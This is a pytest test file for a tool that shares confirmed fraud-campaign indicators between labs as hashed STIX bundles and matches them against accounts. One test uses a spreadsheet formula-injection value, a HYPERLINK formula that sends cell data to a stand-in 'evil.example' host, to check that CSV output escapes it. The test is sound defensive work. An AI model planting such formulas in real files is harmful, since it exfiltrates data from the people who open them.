"""Cross-lab sharing: lab A shares a confirmed campaign, lab B finds the same operator.

Two generated exports (different seeds, so different users, ids and networks) with lab A's
largest campaign's operator transplanted into lab B (``tests/labs.py``). Everything runs
through the CLI on real DuckDB stores; the bundle is parsed back with ``stix2``.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import stix2

from linkgraph.errors import ShareError
from linkgraph.model import Decision
from linkgraph.sharing import matching
from linkgraph.sharing.bundle import (
    ATLAS_TECHNIQUE,
    ShareOptions,
    build_bundle,
    pattern_values,
    read_bundle,
)
from linkgraph.sharing.keys import SharingKey
from linkgraph.store.duckdb import DuckDBStore
from tests.labs import Labs, two_labs

KEY = b"frontier forum sharing key 2026-q4"
LAB_NAME = "Lab A"


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "linkgraph.cli", *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=600, check=False)


def ok(*args: str) -> str:
    res = cli(*args)
    assert res.returncode == 0, res.stderr + res.stdout
    return res.stdout


def refused(*args: str) -> str:
    """The one-line error of a command that must fail."""
    res = cli(*args)
    assert res.returncode != 0, res.stdout
    lines = [line for line in res.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    return lines[0]


def _campaign_cluster(db: Path, accounts: set[str]) -> str:
    """The leiden cluster of the latest run holding most of ``accounts``."""
    with DuckDBStore(db, read_only=True) as s:
        members = s.read_result("members").to_pandas()
        clusters = s.read_result("clusters").to_pandas()
    leiden = set(clusters.loc[clusters["view"] == "leiden", "cluster_id"])
    members = members[members["cluster_id"].isin(leiden) & members["account_id"].isin(accounts)]
    return str(members["cluster_id"].value_counts().index[0])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("labs")
    labs: Labs = two_labs(root)
    key, other = root / "fmf.key", root / "other.key"
    key.write_bytes(KEY + b"\n")
    other.write_bytes(b"another forum's key, not ours!!\n")
    dbs = {name: root / f"{name}.duckdb" for name in ("a", "b")}
    for name, export in (("a", labs.a), ("b", labs.b)):
        ok("load", str(export), "--db", str(dbs[name]))
        ok("detect", "--db", str(dbs[name]))
    cluster = _campaign_cluster(dbs["a"], labs.operator_a)
    ok("decide", cluster, "--status", "confirmed", "--analyst", "ana", "--db", str(dbs["a"]))
    bundle = root / "bundle.json"
    share_out = ok(
        "share",
        cluster,
        "--key-file",
        str(key),
        "--lab-name",
        LAB_NAME,
        "--out",
        str(bundle),
        "--db",
        str(dbs["a"]),
    )
    matches_csv = root / "matches.csv"
    match_out = ok(
        "match", str(bundle), "--key-file", str(key), "--out", str(matches_csv), "--db", str(dbs["b"])
    )
    return {
        "root": root,
        "labs": labs,
        "key": key,
        "other_key": other,
        "dbs": dbs,
        "cluster": cluster,
        "bundle": bundle,
        "matches_csv": matches_csv,
        "share_out": share_out,
        "match_out": match_out,
    }


# --------------------------------------------------------------------------- the bundle
def _objects(bundle: Path) -> dict[str, list[Any]]:
    parsed = stix2.parse(bundle.read_text(), allow_custom=True)
    by_type: dict[str, list[Any]] = {}
    for o in parsed.objects:
        by_type.setdefault(o.type, []).append(o)
    return by_type


def test_bundle_parses_back_with_stix2(world: dict[str, Any]) -> None:
    by_type = _objects(world["bundle"])
    (identity,) = by_type["identity"]
    assert identity.name == LAB_NAME and identity.identity_class == "organization"
    (grouping,) = by_type["grouping"]
    assert grouping.x_linkgraph_cluster_id == world["cluster"]
    assert grouping.x_linkgraph_size >= 30 and 0.7 <= grouping.x_linkgraph_score <= 1
    assert grouping.x_linkgraph_first_seen < grouping.x_linkgraph_last_seen
    assert grouping.description and grouping.context == "suspicious-activity"
    assert grouping.x_linkgraph_key_fingerprint == SharingKey(KEY).fingerprint
    refs = {r.external_id for r in grouping.external_references}
    assert {"AML.T0024", ATLAS_TECHNIQUE["external_id"]} <= refs
    (technique,) = by_type["attack-pattern"]
    assert set(grouping.object_refs) >= {i.id for i in by_type["indicator"]} | {technique.id}
    kinds = {i.x_linkgraph_kind for i in by_type["indicator"]}
    assert {"card_bin_last4", "device_id", "email_address", "ip", "subnet", "proxy_provider"} <= kinds
    assert all(r.relationship_type == "indicates" for r in by_type["relationship"])
    assert by_type["infrastructure"] and all(
        i.infrastructure_types == ["anonymization"] for i in by_type["infrastructure"]
    )


def _raw_identifiers(export: Path, accounts: set[str]) -> dict[str, set[str]]:
    acc = pd.read_csv(export / "accounts.csv", dtype=str)
    pay = pd.read_csv(export / "payment_methods.csv", dtype=str)
    ev = pd.read_csv(export / "ip_events.csv", dtype=str)
    acc, pay, ev = (t[t["account_id"].isin(accounts)] for t in (acc, pay, ev))
    emails = set(acc["email"].dropna())
    return {
        "emails": emails | {e.lower() for e in emails} | {e.split("@")[0].lower() for e in emails},
        "cards": set(pay["payment_fingerprint"])
        | {f"{b}:{last}" for b, last in zip(pay["card_bin"], pay["card_last4"], strict=True)}
        | {f"{b}{last}" for b, last in zip(pay["card_bin"], pay["card_last4"], strict=True)},
        "devices": set(ev["device_id"].dropna()),
        "user_agents": {u.lower() for u in ev["user_agent"].dropna()},
    }


def test_bundle_holds_no_raw_email_card_or_device_of_lab_a(world: dict[str, Any]) -> None:
    text = world["bundle"].read_text()
    raw = _raw_identifiers(world["labs"].a, world["labs"].operator_a)
    assert len(raw["emails"]) > 30 and len(raw["devices"]) > 5 and len(raw["cards"]) > 5
    for what, values in raw.items():
        leaked = sorted(v for v in values if v and v in text)
        assert not leaked, f"raw {what} in the bundle: {leaked[:3]}"


def test_residential_ips_are_hashed_unless_opted_in(world: dict[str, Any], tmp_path: Path) -> None:
    with DuckDBStore(world["dbs"]["a"], read_only=True) as s:
        ips = s.read_table("ip_addresses", ["ip", "proxy_kind"]).to_pandas()
    ev = pd.read_csv(world["labs"].a / "ip_events.csv", dtype=str)
    used = set(ev.loc[ev["account_id"].isin(world["labs"].operator_a), "ip"])
    residential = set(
        ips.loc[ips["proxy_kind"].isin(["residential_proxy", "isp"]) & ips["ip"].isin(used), "ip"]
    )
    assert len(residential) > 20
    text = world["bundle"].read_text()
    assert not [ip for ip in residential if f"'{ip}'" in text]
    opted = tmp_path / "raw-ips.json"
    args = ["--key-file", str(world["key"]), "--lab-name", LAB_NAME, "--db", str(world["dbs"]["a"])]
    ok("share", world["cluster"], *args, "--out", str(opted), "--allow-residential-ips")
    raw = {
        v
        for i in _objects(opted)["indicator"]
        for v in pattern_values(i.pattern)[0].get(("ip", False), set())
    }
    assert len(residential & raw) >= 0.9 * len(residential)


# --------------------------------------------------------------------------- matching at lab B
def test_lab_b_finds_the_operator_and_few_others(world: dict[str, Any]) -> None:
    labs: Labs = world["labs"]
    rows = list(csv.DictReader(world["matches_csv"].open()))
    assert rows and list(rows[0])[: len(matching.MATCH_COLUMNS)] == list(matching.MATCH_COLUMNS)
    found = {r["account_id"] for r in rows}
    with DuckDBStore(world["dbs"]["b"], read_only=True) as s:
        everyone = set(s.read_table("accounts", ["account_id"]).column("account_id").to_pylist())
    assert not labs.operator_a & everyone  # different account ids at the two labs
    recall = len(found & labs.operator_b) / len(labs.operator_b)
    others = everyone - labs.operator_b
    false_rate = len(found - labs.operator_b) / len(others)
    print(
        f"\nrecall {recall:.3f} of {len(labs.operator_b)}; false matches {len(found - labs.operator_b)} / {len(others)}"
    )
    assert recall >= 0.95
    assert false_rate <= 0.01
    for r in rows:
        assert float(r["strength"]) >= matching.MEDIUM_AT and r["level"] in ("strong", "medium")
        assert r["source"] == LAB_NAME and r["source_campaign"] == world["cluster"]
        evidence = json.loads(r["evidence"])
        assert set(evidence) == set(r["indicator_kinds"].split(","))
    assert "matching account" in world["match_out"]


def test_a_shared_proxy_provider_alone_is_never_a_strong_match() -> None:
    assert matching.level(matching.strength({"proxy_provider"})) == "weak"
    every_weak = {"proxy_provider", "subnet", "email_domain", "email_template", "user_agent"}
    assert matching.strength(every_weak) < matching.MEDIUM_AT
    # an exact proxy exit implies its subnet and provider: still one witness, not three
    assert matching.strength({"ip", "subnet", "proxy_provider"}) < matching.MEDIUM_AT
    several = matching.strength({"card_bin_last4", "device_id", "proxy_provider"})
    assert several > matching.strength({"proxy_provider"}) and matching.level(several) == "strong"
    assert matching.level(matching.strength({"device_id"})) == "medium"


def test_weak_matches_stay_below_the_default_floor(world: dict[str, Any]) -> None:
    key = SharingKey(KEY)
    intel = read_bundle(world["bundle"], key)
    with DuckDBStore(world["dbs"]["b"], read_only=True) as s:
        everything = matching.match_bundle(s, intel, key, min_strength=0.0).matches
    weak = everything[everything["level"] == "weak"]
    assert len(weak) > 10  # the bundle's provider and templates do touch other accounts ...
    assert not set(weak["account_id"]) & {
        r["account_id"] for r in csv.DictReader(world["matches_csv"].open())
    }  # ... and none of those is reported
    provider_only = everything[everything["indicator_kinds"] == "proxy_provider"]
    assert len(provider_only) and (provider_only["strength"] < matching.MEDIUM_AT).all()


# --------------------------------------------------------------------------- refusals
def test_a_bundle_hashed_with_another_key_is_refused(world: dict[str, Any]) -> None:
    line = refused(
        "match", str(world["bundle"]), "--key-file", str(world["other_key"]), "--db", str(world["dbs"]["b"])
    )
    assert "different key" in line


def test_a_bundle_that_is_not_valid_stix_is_refused(world: dict[str, Any], tmp_path: Path) -> None:
    doc = json.loads(world["bundle"].read_text())
    broken = next(o for o in doc["objects"] if o["type"] == "indicator")
    broken["pattern"] = broken["pattern"][:-1]  # unbalanced bracket
    bad = tmp_path / "broken.json"
    bad.write_text(json.dumps(doc))
    args = ["--key-file", str(world["key"]), "--db", str(world["dbs"]["b"])]
    assert "not a valid STIX 2.1 bundle" in refused("match", str(bad), *args)
    (tmp_path / "text.json").write_text("hello")
    assert "not JSON" in refused("match", str(tmp_path / "text.json"), *args)
    (tmp_path / "list.json").write_text("[]")
    assert "not a STIX bundle" in refused("match", str(tmp_path / "list.json"), *args)
    doc = json.loads(world["bundle"].read_text())
    doc["objects"][0]["spec_version"] = "2.0"
    (tmp_path / "v20.json").write_text(json.dumps(doc))
    assert "STIX" in refused("match", str(tmp_path / "v20.json"), *args)


def test_only_confirmed_campaigns_are_shared(world: dict[str, Any], tmp_path: Path) -> None:
    with DuckDBStore(world["dbs"]["a"], read_only=True) as s:
        clusters = s.read_result("clusters").to_pandas()
    other = clusters[(clusters["view"] == "leiden") & (clusters["cluster_id"] != world["cluster"])]
    unconfirmed = str(other.sort_values("score")["cluster_id"].iloc[-1])
    args = ["--key-file", str(world["key"]), "--lab-name", LAB_NAME, "--db", str(world["dbs"]["a"])]
    line = refused("share", unconfirmed, *args, "--out", str(tmp_path / "x.json"))
    assert "not confirmed" in line and not (tmp_path / "x.json").exists()
    assert "no cluster" in refused("share", "C999999", *args, "--out", str(tmp_path / "y.json"))
    short = tmp_path / "short.key"
    short.write_text("short")
    assert "at least 16 bytes" in refused(
        "share",
        world["cluster"],
        "--key-file",
        str(short),
        "--lab-name",
        LAB_NAME,
        "--out",
        str(tmp_path / "z.json"),
    )


def test_a_dismissal_after_confirming_stops_sharing(world: dict[str, Any], tmp_path: Path) -> None:
    db = tmp_path / "a.duckdb"
    db.write_bytes(world["dbs"]["a"].read_bytes())
    with DuckDBStore(db) as s:
        s.add_decision(Decision(world["cluster"], "dismissed", "ben", "research partner"))
        options = ShareOptions(lab_name=LAB_NAME)
        with pytest.raises(ShareError, match="not confirmed"):
            build_bundle(s, [world["cluster"]], SharingKey(KEY), options)


# --------------------------------------------------------------------------- the old export
def test_export_stix_writes_no_raw_user_values(world: dict[str, Any], tmp_path: Path) -> None:
    db = world["dbs"]["a"]
    plain, keyed = tmp_path / "plain.json", tmp_path / "keyed.json"
    ok("export", "--format", "stix", "--out", str(plain), "--db", str(db))
    ok("export", "--format", "stix", "--key-file", str(world["key"]), "--out", str(keyed), "--db", str(db))
    raw = _raw_identifiers(world["labs"].a, world["labs"].operator_a)
    for path in (plain, keyed):
        text = path.read_text()
        for what, values in raw.items():
            assert not [v for v in values if v and v in text], what
    plain_kinds = {(i.x_linkgraph_kind, i.x_linkgraph_hashed) for i in _objects(plain)["indicator"]}
    assert plain_kinds and not any(hashed for _, hashed in plain_kinds)
    assert ("device_id", True) in {
        (i.x_linkgraph_kind, i.x_linkgraph_hashed) for i in _objects(keyed)["indicator"]
    }
    again = tmp_path / "again.json"
    ok("export", "--format", "stix", "--out", str(again), "--db", str(db))
    assert again.read_text() == plain.read_text()  # one run, one bundle


def test_matches_csv_is_safe_to_open(world: dict[str, Any], tmp_path: Path) -> None:
    evil_lab = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    bundle, out = tmp_path / "evil.json", tmp_path / "m.csv"
    args = ["--key-file", str(world["key"])]
    ok(
        "share",
        world["cluster"],
        *args,
        "--lab-name",
        evil_lab,
        "--out",
        str(bundle),
        "--db",
        str(world["dbs"]["a"]),
    )
    ok("match", str(bundle), *args, "--out", str(out), "--no-save", "--db", str(world["dbs"]["b"]))
    rows = list(csv.DictReader(out.open()))
    assert rows and all(r["source"] == "'" + evil_lab for r in rows)
    assert all(float(r["strength"]) > 0 for r in rows)  # numbers stay numbers


def test_matches_are_stored_for_the_app_and_detection(world: dict[str, Any]) -> None:
    with DuckDBStore(world["dbs"]["b"], read_only=True) as s:
        stored = s.intel_matches()
    reported = {r["account_id"] for r in csv.DictReader(world["matches_csv"].open())}
    assert set(stored["account_id"]) == reported
    assert set(stored["level"]) <= {"strong", "medium"} and (stored["strength"] >= matching.MEDIUM_AT).all()
    assert (stored["source"] == LAB_NAME).all() and stored["matched_at"].notna().all()
    # matching the same bundle again replaces its rows instead of adding to them
    ok("match", str(world["bundle"]), "--key-file", str(world["key"]), "--db", str(world["dbs"]["b"]))
    with DuckDBStore(world["dbs"]["b"], read_only=True) as s:
        assert len(s.intel_matches()) == len(stored)


def test_the_app_shows_matches_on_the_campaign_they_fall_in(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.testing.v1 import AppTest

    from linkgraph.sharing.matching import campaign_intel

    db = world["dbs"]["b"]
    cluster = _campaign_cluster(db, world["labs"].operator_b)
    with DuckDBStore(db, read_only=True) as s:
        intel = campaign_intel(s, cluster)
    assert len(intel) == 1 and intel["source"].iloc[0] == LAB_NAME and intel["accounts"].iloc[0] >= 30
    monkeypatch.setenv("LINKGRAPH_DB", str(db))
    monkeypatch.delenv("NEO4J_URI", raising=False)
    monkeypatch.delenv("LINKGRAPH_APP_PASSWORD", raising=False)
    app = Path(__file__).resolve().parent.parent / "app" / "streamlit_app.py"
    at = AppTest.from_file(str(app), default_timeout=60)
    at.run()
    at.session_state["cluster_id"] = cluster
    at.switch_page("app_pages/campaign.py").run()
    assert not at.exception, [e.message for e in at.exception]
    warnings = [w.value for w in at.warning]
    assert any("External intel" in w and LAB_NAME in w for w in warnings), warnings


def test_strong_matches_feed_detection_as_known_bad(world: dict[str, Any], tmp_path: Path) -> None:
    db = tmp_path / "b.duckdb"
    shutil.copyfile(world["dbs"]["b"], db)
    with DuckDBStore(db, read_only=True) as s:
        before = s.read_result("clusters").to_pandas()
    ok("detect", "--db", str(db))  # the store now holds lab A's matches
    with DuckDBStore(db, read_only=True) as s:
        strong = set(s.intel_matches().query("level == 'strong'")["account_id"])
        members = s.read_result("members").to_pandas()
        after = s.read_result("clusters").to_pandas()
    assert strong and strong <= world["labs"].operator_b
    held = set(members.loc[members["account_id"].isin(strong), "cluster_id"])
    share_after = after.set_index("cluster_id")["features"].map(lambda f: json.loads(f)["known_bad_share"])
    share_before = before.set_index("cluster_id")["features"].map(lambda f: json.loads(f)["known_bad_share"])
    for cid in held:
        in_cluster = members.loc[members["cluster_id"] == cid, "account_id"]
        matched = in_cluster.isin(strong).mean()
        assert share_after[cid] >= matched - 1e-9, "every strongly matched member counts as known-bad"
    assert any(share_after[c] > share_before.get(c, 0.0) for c in held), "the intel raised a campaign"
    # clusters no strong match falls in gain nothing from the intel
    untouched = after[~after["cluster_id"].isin(held)].set_index("cluster_id")["score"]
    common = untouched.index.intersection(before.set_index("cluster_id").index)
    assert (untouched[common] <= before.set_index("cluster_id")["score"][common] + 1e-9).all()
